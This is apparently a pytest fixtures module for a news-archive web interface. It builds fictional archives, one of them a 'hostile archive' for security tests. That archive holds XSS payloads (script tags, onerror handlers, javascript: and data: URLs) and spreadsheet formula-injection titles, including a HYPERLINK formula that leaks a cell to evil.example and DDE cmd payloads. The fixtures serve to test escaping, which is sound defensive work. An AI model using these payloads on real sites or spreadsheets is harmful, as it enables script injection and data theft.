"""Fixtures for the web UI tests: a small fictional archive built through the real pipeline.

Kept apart from conftest.py (owned by the core's tests); test modules load it with
`pytest_plugins` and also import its data. Being imported before pytest registers it as a
plugin, it opts out of assertion rewriting (PYTEST_DONT_REWRITE) instead of warning.
"""

from __future__ import annotations

import json
import os
import re
import select
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from archive.config import InstancePaths, resolve_instance
from archive.ingest import ingest
from archive.instance import Archive
from archive_web import close_app, create_app
from tests.conftest import PATIENCE


@dataclass(frozen=True)
class Story:
    title: str
    body: str
    outlet: str | None
    date: str | None
    url: str | None = None
    byline: str | None = None


# Groups of routine stories: (outlet, year, how many). The first story of each group
# mentions the ferry, so a search for "ferry" finds one per group.
GROUPS = [("Harbor Courier", 2021, 3), ("Harbor Courier", 2022, 3), ("Harbor Courier", 2023, 3),
          ("Daily Lantern", 2022, 4), ("Daily Lantern", 2023, 2),
          ("Northern Wire", 2021, 2), ("Northern Wire", 2023, 2), (None, 2022, 1)]
SUBJECTS = ["bakery prices", "school roof repairs", "library opening hours", "tram tickets",
            "market stall rents"]

GLACIER = Story(
    title="Glacier retreat worries valley farmers",
    body="The glacier above Kestrel Valley has shrunk by a third since 1990, surveyors said.\n\n"
         "Farmers who rely on its meltwater asked the county for new reservoirs.",
    outlet="Northern Wire", date="2021-08-03", url="https://wire.example/glacier",
    byline="Mira Olsen")
LIGHTHOUSE = Story(
    title="Lighthouse keeper retires after forty years",
    body="The last keeper of the Gull Point light handed over the keys on a windy morning.",
    outlet=None, date=None)
HOSTILE = Story(
    title='<script>alert("title")</script> Harbour fireworks <img src=x onerror=alert(1)>',
    body='Fireworks lit the harbour sky. <script>alert("body")</script>\n\n'
         'The crowd <img src=x onerror=alert(2)> cheered until midnight.',
    outlet="Daily Lantern", date="2022-11-05", url="javascript:alert(3)")

# An HTML page in windows-1252 with a script in it: the raw view must show it as text.
RAW_HTML = (
    '<!doctype html><html><head><meta charset="windows-1252">'
    "<title>Caf\xe9 owners protest quay seating rules</title></head><body><article>"
    "<h1>Caf\xe9 owners protest quay seating rules</h1>"
    "<p>Owners of caf\xe9s along the quay gathered on Monday to protest new rules on outdoor "
    "seating, which they say will ruin the summer season for everyone.</p>"
    "<p>The council said the rules keep the quay clear for emergency vehicles and vans.</p>"
    "<script>alert('raw')</script></article></body></html>"
).encode("cp1252")


def routine_stories() -> list[Story]:
    stories = []
    number = 0
    for outlet, year, count in GROUPS:
        for k in range(count):
            number += 1
            subject = "the ferry timetable" if k == 0 else SUBJECTS[number % len(SUBJECTS)]
            stories.append(Story(
                title=f"Council debates {subject} ({outlet or 'notice'} {number})",
                body=f"Councillors met on a Tuesday to discuss {subject}. Item {number} of the "
                     f"agenda drew questions from residents of ward {number}.",
                outlet=outlet, date=f"{year}-{k + 2:02d}-{number % 27 + 1:02d}",
                url=f"https://news.example/{number}"))
    return stories


STORIES = [*routine_stories(), GLACIER, LIGHTHOUSE, HOSTILE]
# Every article the archive ends up with: the stories plus the HTML page.
ARTICLE_COUNT = len(STORIES) + 1


def write_inputs(folder: Path) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    records = [{key: value for key, value in vars(story).items() if value is not None}
               for story in STORIES]
    feed = folder / "feed.jsonl"
    feed.write_text("\n".join(json.dumps(record) for record in records) + "\n",
                    encoding="utf-8")
    page = folder / "quay-cafes.html"
    page.write_bytes(RAW_HTML)
    return [feed, page]


def build_archive(root: Path) -> InstancePaths:
    """A fresh archive in root/instance holding every story, ingested the way the CLI does."""
    paths = resolve_instance(root / "instance")
    inputs = write_inputs(root / "inputs")
    with Archive(paths) as archive, archive.writing():
        summary = ingest(archive, [str(path) for path in inputs])
    assert summary.ok and summary.added == ARTICLE_COUNT, summary
    return paths


@pytest.fixture
def web_instance(tmp_path: Path) -> InstancePaths:
    return build_archive(tmp_path)


@pytest.fixture
def web_app(web_instance: InstancePaths) -> Iterator[Flask]:
    app = create_app({"ARCHIVE_INSTANCE": web_instance, "TESTING": True})
    yield app
    close_app(app)


@pytest.fixture
def web_client(web_app: Flask) -> FlaskClient:
    return web_app.test_client()


# --- a research archive: the examples plus stories, languages and months ------------------------

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"
TRAM_BODY = (
    "Tram drivers in Northport will stop work for two days from Monday after talks over "
    "rosters and overtime pay broke down late on Friday evening. The drivers' union said "
    "the operator had refused to discuss the length of night rosters, and that members had "
    "voted by a large majority to walk out. The operator said replacement buses would run "
    "on the busiest routes but warned passengers to expect long queues at the main stops.")
# One story in three outlets: the copies differ a little, as syndicated copies do.
TRAM_COPIES = [
    {"title": "Tram drivers to strike for two days", "body": TRAM_BODY,
     "outlet": "Harbor Courier", "date": "2022-03-02"},
    {"title": "Northport tram drivers announce two-day walkout",
     "body": "NORTHPORT - " + TRAM_BODY, "outlet": "Northern Wire", "date": "2022-03-03"},
    {"title": "Tram strike: drivers walk out on Monday",
     "body": TRAM_BODY + " The city council urged both sides to return to talks.",
     "outlet": "Daily Lantern", "date": "2022-03-05"},
]
# Short, different texts about one subject across months: months to drill into.
DREDGING = [
    ("2022-01-10", "Harbor Courier", "Dredging of the outer channel begins in January."),
    ("2022-03-15", "Northern Wire", "Dredging crews reach the inner basin ahead of plan."),
    ("2022-03-20", "Daily Lantern", "Residents complain about dredging noise at night."),
    ("2022-06-01", "Harbor Courier", "The dredging contract is extended into the summer."),
    ("2022-11-30", "Northern Wire", "Dredging finishes and the channel reopens to ships."),
    ("2023-02-14", "Daily Lantern", "An audit questions the cost of last year's dredging."),
]
LANGUAGE_RECORDS = [
    {"title": "Les conducteurs de tram en grève", "language": "fr", "outlet": "Courrier",
     "date": "2022-03-04", "body": "Les conducteurs de tram de Northport cesseront le travail "
     "pendant deux jours à partir de lundi, après l'échec des négociations sur les horaires."},
    {"title": "Straßenbahnfahrer streiken zwei Tage", "language": "de", "outlet": "Kurier",
     "date": "2022-03-06", "body": "Die Straßenbahnfahrer in Northport legen ab Montag für "
     "zwei Tage die Arbeit nieder, nachdem die Gespräche über Dienstpläne gescheitert sind."},
]


def research_records() -> list[dict[str, str]]:
    records = [*TRAM_COPIES, *LANGUAGE_RECORDS]
    for date, outlet, sentence in DREDGING:
        records.append({"title": f"Harbour dredging update {date}", "body": sentence,
                        "outlet": outlet, "date": date, "language": "en"})
    return records


def build_research_archive(root: Path) -> InstancePaths:
    """The examples folder (with its syndicated dock strike) and the records above."""
    paths = resolve_instance(root / "instance")
    feed = root / "inputs" / "research.jsonl"
    feed.parent.mkdir(parents=True, exist_ok=True)
    feed.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n"
                            for r in research_records()), encoding="utf-8")
    with Archive(paths) as archive, archive.writing():
        summary = ingest(archive, [str(EXAMPLES), str(feed)])
    assert summary.ok, summary
    return paths


# --- a hostile archive: markup, script URLs, broken entities and spreadsheet formulas ----------

HOSTILE_TITLE = '<script>alert("t")</script><img src=x onerror=alert(1)> Tide tables'
FORMULA_TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Tide report")',
                  '+cmd|" /C calc"!A0 tide', '@SUM(1+1)*cmd|" /C calc"!A0 tide',
                  '-2+3+cmd|" /C calc"!A0 tide']
HOSTILE_RECORDS: list[dict[str, str]] = [
    {"title": HOSTILE_TITLE, "outlet": '<b onmouseover=alert(6)>Evil Outlet</b>',
     "byline": "<script>alert(7)</script>", "url": "javascript:alert(5)", "date": "2023-05-01",
     "body": 'The tide <svg onload=alert(2)> rose. <a href="javascript:alert(3)">click</a> '
             '<iframe src="javascript:alert(4)"></iframe> &amp &lt;b&gt; &#x; &#0; ]]> '
             '</title></textarea><!-- --> "quotes" \'apostrophes\' tide tables again.'},
    {"title": "Tide gauge reads \x0b odd values", "url": " JaVaScRiPt:alert(8)",
     "outlet": "Harbor Courier", "date": "2023-05-02",
     "body": "=1+2 The tide gauge \x0b on the pier reported odd values all week."},
    {"title": "Tide data as a page", "url": "data:text/html,<script>alert(10)</script>",
     "outlet": "Harbor Courier", "date": "2023-05-03",
     "body": "Tide data <img src=x onerror=alert(11)> was published as a web page."},
    *({"title": title, "outlet": "Northern Wire", "date": f"2023-05-{4 + n:02d}",
       "url": "https://news.example/tide", "body": f"{title} The tide report number {n}."}
      for n, title in enumerate(FORMULA_TITLES)),
]
# A whole-page text dump: its menu lines hold markup that the extraction view must show inert.
HOSTILE_DUMP = "\n".join([
    "<script>alert('menu')</script> Home",
    "News <img src=x onerror=alert('nav')>",
    "Sport",
    "",
    "Harbour tide tables printed wrong for a week",
    "",
    "By <b onclick=alert('by')>Ada Reed</b>",
    "3 May 2023",
    "",
    "The tide tables printed in the harbour office were wrong for a whole week, the "
    "harbour master said on Wednesday, after a software update shifted every time by an hour.",
    "",
    "Boat owners who relied on them said two vessels touched the bottom at the harbour "
    "mouth <script>alert('body')</script> before the error was found and fixed.",
    "",
    "Share <a href=javascript:alert('share')>Facebook</a>",
    "© 2023 The Harbour Post",
])


def build_hostile_archive(root: Path) -> InstancePaths:
    paths = resolve_instance(root / "instance")
    folder = root / "inputs"
    folder.mkdir(parents=True, exist_ok=True)
    feed = folder / "hostile.jsonl"
    feed.write_text("".join(json.dumps(r) + "\n" for r in HOSTILE_RECORDS), encoding="utf-8")
    dump = folder / "harbour-post-tide.txt"
    dump.write_text(HOSTILE_DUMP, encoding="utf-8")
    page = folder / "hostile.html"
    page.write_bytes(RAW_HTML.replace(b"quay", b"tide quay"))
    with Archive(paths) as archive, archive.writing():
        summary = ingest(archive, [str(feed), str(dump), str(page)])
    assert summary.ok and summary.added == len(HOSTILE_RECORDS) + 2, summary
    return paths


# --- a large archive, for pagination deep into a result set --------------------------------------

BIG_COUNT = 1_234
_TOPICS = ("budget", "bridge", "housing", "rail", "water", "school", "energy", "court")


def build_big_archive(root: Path, count: int = BIG_COUNT) -> InstancePaths:
    """`count` short reports, all matching "report", some dated alike (ties to order)."""
    paths = resolve_instance(root / "instance")
    feed = root / "inputs" / "big.jsonl"
    feed.parent.mkdir(parents=True, exist_ok=True)
    with feed.open("w", encoding="utf-8") as out:
        for n in range(count):
            topic, other = _TOPICS[n % 8], _TOPICS[(n // 8) % 8]
            record = {"title": f"Report {n} on {topic}",
                      "body": f"Report number {n} covers the {topic} and the {other}. "
                              f"Marker item{n} keeps each text apart.",
                      "outlet": f"Outlet {n % 5}", "date": f"{2010 + n % 12}-{n % 12 + 1:02d}-"
                                                          f"{n % 27 + 1:02d}"}
            if n % 50 == 0:
                del record["date"]  # some undated, which sort last
            out.write(json.dumps(record) + "\n")
    with Archive(paths) as archive, archive.writing():
        summary = ingest(archive, [str(feed)])
    assert summary.ok and summary.added == count, summary
    return paths


def _app(paths: InstancePaths) -> Flask:
    return create_app({"ARCHIVE_INSTANCE": paths, "TESTING": True})


@pytest.fixture(scope="module")
def research_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
    app = _app(build_research_archive(tmp_path_factory.mktemp("research")))
    yield app.test_client()
    close_app(app)


@pytest.fixture(scope="module")
def hostile_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
    app = _app(build_hostile_archive(tmp_path_factory.mktemp("hostile")))
    yield app.test_client()
    close_app(app)


@pytest.fixture(scope="module")
def big_client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
    app = _app(build_big_archive(tmp_path_factory.mktemp("big")))
    yield app.test_client()
    close_app(app)


# --- a real server: `archive serve` in a subprocess -------------------------------------------

@dataclass
class Server:
    url: str
    process: subprocess.Popen[bytes]
    log: Path
    banner: str  # what it printed up to and including the "Open http://..." line


@contextmanager
def running_server(instance: Path, log: Path, *options: str) -> Iterator[Server]:
    """`archive --instance X serve --port 0 [options]` in a subprocess, as a user would start
    it; stderr goes to `log`."""
    command = [str(Path(sys.executable).with_name("archive")), "--instance", str(instance),
               "serve", "--port", "0", *options]
    with log.open("w") as stderr:
        # Ctrl+C as a terminal sends it, even when the tests run where SIGINT is ignored.
        process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=stderr,
                                   preexec_fn=_default_sigint)
    try:
        banner = wait_for_banner(process, log)
        url = re.search(r"Open (http://\S+/)", banner)
        assert url is not None
        yield Server(url.group(1), process, log, banner)
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
        assert process.stdout is not None
        process.stdout.close()


def _default_sigint() -> None:
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def wait_for_banner(process: subprocess.Popen[bytes], log: Path) -> str:
    """What the server prints up to its address; raw reads, as select() knows nothing of file
    buffers."""
    assert process.stdout is not None
    descriptor = process.stdout.fileno()
    deadline = time.monotonic() + PATIENCE
    output = b""
    while time.monotonic() < deadline:
        ready, _, _ = select.select([descriptor], [], [], 0.2)
        if ready:
            chunk = os.read(descriptor, 4096)
            output += chunk
            if re.search(rb"Open http://\S+/", output):
                return output.decode(errors="replace")
            if not chunk:
                break
        if process.poll() is not None:
            break
    raise AssertionError(f"server did not start: {output.decode(errors='replace')}\n"
                         f"{log.read_text()}")
